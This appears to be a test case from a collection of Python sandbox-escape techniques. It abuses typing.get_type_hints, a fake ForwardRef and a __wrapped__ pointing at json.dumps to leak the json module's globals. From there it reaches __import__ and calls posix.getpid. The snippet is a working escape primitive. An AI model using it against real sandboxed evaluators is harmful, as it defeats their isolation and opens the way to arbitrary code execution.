# technique: get_type_hints on a function whose __wrapped__ is json.dumps: the unwrap loop picked json's globals
# expect: any
import typing, json
leak = []
class F:
    @property
    def __class__(self):
        return typing.ForwardRef
    def _evaluate(self, g, l, guard):
        leak.append(g)
        return int
def f(x: F()): pass
f.__wrapped__ = json.dumps
typing.get_type_hints(f)
g = leak[0]
(sorted(g)[:8], g["__builtins__"]["__import__"]("posix").getpid())
